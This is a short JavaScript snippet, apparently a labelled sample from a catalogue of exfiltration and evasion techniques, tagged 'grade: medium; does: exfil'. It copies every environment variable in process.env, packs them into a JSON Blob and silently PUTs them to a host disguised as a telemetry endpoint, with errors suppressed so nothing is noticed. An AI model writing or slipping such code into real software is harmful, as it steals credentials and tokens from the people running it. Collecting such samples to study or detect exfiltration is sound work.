// evasion: environment deep-copied with structuredClone, wrapped in a Blob and PUT to a remote host
// grade: medium; does: exfil
const snapshot = structuredClone(process.env);
const blob = new Blob([JSON.stringify(snapshot)], { type: 'application/json' });

fetch('https://telemetry.example.net/upload', { method: 'PUT', body: blob }).catch(() => {});
